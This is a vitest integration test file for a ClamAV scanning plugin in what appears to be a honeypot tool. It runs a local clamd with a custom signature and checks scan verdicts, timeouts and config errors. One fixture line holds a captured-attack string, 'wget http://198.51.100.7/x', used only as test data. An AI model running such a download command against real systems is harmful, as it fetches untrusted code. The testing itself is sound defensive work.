import { spawn, type ChildProcess } from 'node:child_process'
import { mkdtemp, rm, writeFile } from 'node:fs/promises'
import { connect, createServer, type Server, type Socket } from 'node:net'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { afterAll, beforeAll, describe, expect, it, onTestFinished } from 'vitest'
import { parseConfig } from '../../src/config/load-config.js'
import { hasErrorCode, type ConfigError } from '../../src/core/errors.js'
import { ClamavOptions, createClamavPlugin, parseClamdReply } from '../../src/plugins/analyzers/clamav.js'
import { attackOf, createTestContext, runPlugin, subjectOf } from '../helpers/plugin-harness.js'

/**
 * Runs against a real clamd (Debian package clamav-daemon) started by this file with a database of one signature of
 * our own: the official EICAR signature lives in daily.cvd, which freshclam would have to download. Ours is a body
 * signature (.ndb: Name:TargetType:Offset:HexSignature) matching the ASCII marker below anywhere in any file; clamd
 * reports it as "HoneytrapTest.Marker.UNOFFICIAL" (the suffix clamd gives every signature outside signed databases).
 * StreamMaxLength is set to 1 MiB so that the size-limit reply can be provoked cheaply.
 */
const MARKER = 'HONEYTRAP-CLAMAV-TEST-MARKER-7c1e'
const SIGNATURE = 'HoneytrapTest.Marker.UNOFFICIAL'
const STREAM_MAX_BYTES = 1024 * 1024

let dir = ''
let socketPath = ''
let tcpSocket = ''
let clamd: ChildProcess | null = null

function freePort(): Promise<number> {
  return new Promise((resolve, reject) => {
    const server = createServer()
    server.once('error', reject)
    server.listen(0, '127.0.0.1', () => {
      const address = server.address()
      server.close(() => (typeof address === 'object' && address !== null ? resolve(address.port) : reject(new Error('no port'))))
    })
  })
}

/** True when clamd answers PING on its unix socket. */
function pings(path: string): Promise<boolean> {
  return new Promise((resolve) => {
    const socket = connect(path)
    let reply = ''
    socket.setTimeout(1_000, () => socket.destroy())
    socket.on('connect', () => socket.write('zPING\0'))
    socket.on('data', (chunk) => (reply += chunk.toString('latin1')))
    socket.on('close', () => resolve(reply === 'PONG\0'))
    socket.on('error', () => undefined)
  })
}

beforeAll(async () => {
  dir = await mkdtemp(join(tmpdir(), 'ht-clamav-'))
  socketPath = join(dir, 'clamd.sock')
  const port = await freePort()
  tcpSocket = `127.0.0.1:${port}`
  await writeFile(join(dir, 'honeytrap-test.ndb'), `HoneytrapTest.Marker:0:*:${Buffer.from(MARKER).toString('hex')}\n`)
  const conf = [`LocalSocket ${socketPath}`, `TCPSocket ${port}`, 'TCPAddr 127.0.0.1', `DatabaseDirectory ${dir}`, 'Foreground yes', `StreamMaxLength ${STREAM_MAX_BYTES}`, `TemporaryDirectory ${dir}`]
  await writeFile(join(dir, 'clamd.conf'), `${conf.join('\n')}\n`)
  let stderr = ''
  clamd = spawn('clamd', ['-c', join(dir, 'clamd.conf')], { stdio: ['ignore', 'ignore', 'pipe'] })
  clamd.stderr?.on('data', (chunk: Buffer) => (stderr = (stderr + chunk.toString()).slice(-4000)))
  const spawned = await new Promise<Error | null>((resolve) => {
    clamd?.once('spawn', () => resolve(null))
    clamd?.once('error', resolve)
  })
  if (spawned !== null) throw new Error(`cannot start clamd (apt-get install clamav-daemon): ${spawned.message}`)
  const deadline = Date.now() + 30_000
  while (!(await pings(socketPath))) {
    if (clamd.exitCode !== null || Date.now() > deadline) throw new Error(`clamd did not come up: ${stderr}`)
    await new Promise((resolve) => setTimeout(resolve, 100))
  }
})

afterAll(async () => {
  const child = clamd
  if (child?.pid !== undefined && child.exitCode === null) {
    const exited = new Promise((resolve) => child.once('exit', resolve))
    process.kill(child.pid, 'SIGTERM')
    await Promise.race([exited, new Promise((resolve) => setTimeout(resolve, 5_000))])
    if (child.exitCode === null && child.signalCode === null) process.kill(child.pid, 'SIGKILL')
  }
  if (dir !== '') await rm(dir, { recursive: true, force: true })
})

function sample(data: Buffer): ReturnType<typeof subjectOf> {
  return subjectOf(attackOf('wget http://198.51.100.7/x'), data, 'sample')
}

describe('clamav against a real clamd', () => {
  it('reports a clean buffer as clean', async () => {
    const plugin = createClamavPlugin(ClamavOptions.parse({ socket: socketPath }))
    const collected = await runPlugin(plugin, sample(Buffer.from('#!/bin/sh\necho nothing to see\n')))
    expect(collected.artifacts).toEqual([
      { kind: 'scan', matchKey: 'clean', info: { engine: 'clamav', verdict: 'clean', signature: null, reason: null, scannedBytes: 30, partial: false } },
    ])
  })

  it('reports the test signature, over the unix socket and over TCP, in a buffer larger than one chunk', async () => {
    const data = Buffer.concat([Buffer.alloc(200_000, 0x41), Buffer.from(MARKER), Buffer.alloc(1000, 0x42)])
    for (const socket of [socketPath, tcpSocket]) {
      const collected = await runPlugin(createClamavPlugin(ClamavOptions.parse({ socket })), sample(data))
      expect(collected.artifacts[0]?.matchKey).toBe('infected')
      expect(collected.artifacts[0]?.info).toMatchObject({ verdict: 'infected', signature: SIGNATURE, reason: null })
    }
  })

  it("answers 'error' with clamd's reason for a buffer past StreamMaxLength", async () => {
    const plugin = createClamavPlugin(ClamavOptions.parse({ socket: socketPath }))
    const collected = await runPlugin(plugin, sample(Buffer.alloc(STREAM_MAX_BYTES * 2, 0x43)))
    expect(collected.artifacts[0]?.matchKey).toBe('error')
    expect(collected.artifacts[0]?.info).toMatchObject({ verdict: 'error', signature: null, reason: 'INSTREAM size limit exceeded' })
  })

  it('scans only the first maxScanBytes of a larger subject, and says so', async () => {
    const plugin = createClamavPlugin(ClamavOptions.parse({ socket: socketPath, maxScanBytes: 4096 }))
    const late = await runPlugin(plugin, sample(Buffer.concat([Buffer.alloc(5000, 0x20), Buffer.from(MARKER)])))
    expect(late.artifacts[0]?.info).toMatchObject({ verdict: 'clean', scannedBytes: 4096, partial: true })
    const early = await runPlugin(plugin, sample(Buffer.concat([Buffer.from(MARKER), Buffer.alloc(5000, 0x20)])))
    expect(early.artifacts[0]?.info).toMatchObject({ verdict: 'infected', partial: true })
  })

  it('scans the subject kinds it is told to', () => {
    const attack = attackOf('x')
    const byDefault = createClamavPlugin(ClamavOptions.parse({ socket: socketPath }))
    expect(['attack', 'decoded', 'sample'].map((k) => byDefault.accepts!(subjectOf(attack, attack.payload, k as 'attack')))).toEqual([false, false, true])
    const all = createClamavPlugin(ClamavOptions.parse({ socket: socketPath, kinds: ['attack', 'decoded'] }))
    expect(['attack', 'decoded', 'sample'].map((k) => all.accepts!(subjectOf(attack, attack.payload, k as 'attack')))).toEqual([true, true, false])
  })
})

describe('clamav without a working clamd', () => {
  it('refuses a config without a usable socket, naming the key', () => {
    for (const options of [{}, { socket: 'relative/clamd.sock' }, { socket: 'localhost' }]) {
      let caught: unknown = null
      try {
        parseConfig({ plugins: { list: [{ name: 'b64Decode' }, { name: 'clamav', options }] } })
      } catch (err) {
        caught = err
      }
      expect(hasErrorCode(caught, 'HT_ERR_CONFIG_INVALID')).toBe(true)
      expect((caught as ConfigError).issues.map((i) => i.path)).toEqual(['plugins.list.1.options.socket'])
    }
    // A port out of range passes the pattern; the factory refuses it, naming the option.
    let caught: unknown = null
    try {
      createClamavPlugin(ClamavOptions.parse({ socket: 'host:99999' }))
    } catch (err) {
      caught = err
    }
    expect(hasErrorCode(caught, 'HT_ERR_CONFIG_INVALID')).toBe(true)
    expect((caught as Error).message).toContain('"socket"')
  })

  it('throws, and records no scan, when clamd is not listening', async () => {
    const plugin = createClamavPlugin(ClamavOptions.parse({ socket: join(dir, 'nobody-here.sock') }))
    const { ctx, collected } = createTestContext()
    await expect(plugin.process(sample(Buffer.from('x')), ctx)).rejects.toThrow(/clamd connection failed/)
    expect(collected.artifacts).toEqual([])
  })

  it('throws when the peer does not answer within timeoutMs, or answers what clamd never says', async () => {
    for (const [answer, error] of [[null, /did not answer in time/], ['HTTP/1.1 400 Bad Request\r\n\r\n\0', /not understood/]] as const) {
      const path = join(dir, `fake-${answer === null ? 'silent' : 'http'}.sock`)
      const accepted: Socket[] = []
      const server: Server = createServer((socket) => {
        accepted.push(socket)
        socket.on('error', () => undefined)
        if (answer !== null) socket.end(answer)
      })
      await new Promise<void>((resolve) => server.listen(path, resolve))
      onTestFinished(() => {
        for (const socket of accepted) socket.destroy()
        return new Promise<void>((resolve) => server.close(() => resolve()))
      })
      const plugin = createClamavPlugin(ClamavOptions.parse({ socket: path, timeoutMs: 300 }))
      const started = Date.now()
      await expect(runPlugin(plugin, sample(Buffer.from('x')))).rejects.toThrow(error)
      expect(Date.now() - started).toBeLessThan(3_000)
    }
  })
})

describe('parseClamdReply', () => {
  it('reads OK, FOUND and ERROR replies and nothing else', () => {
    expect(parseClamdReply('stream: OK')).toEqual({ verdict: 'clean', signature: null, reason: null })
    expect(parseClamdReply('stream: Win.Test.EICAR_HDB-1 FOUND')).toEqual({ verdict: 'infected', signature: 'Win.Test.EICAR_HDB-1', reason: null })
    expect(parseClamdReply("stream: Can't allocate memory ERROR")).toEqual({ verdict: 'error', signature: null, reason: "Can't allocate memory" })
    expect(parseClamdReply('PONG')).toBeNull()
    expect(parseClamdReply('stream:  FOUND')).toBeNull()
  })
})
